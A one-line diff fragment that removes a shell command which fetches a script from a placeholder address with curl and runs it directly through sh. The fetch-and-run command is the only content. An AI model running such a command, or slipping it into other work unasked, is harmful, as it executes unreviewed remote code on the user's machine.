@@ -1,1 +1,0 @@
-sh -c "$(curl -fsSL https://example.com/i.sh)"
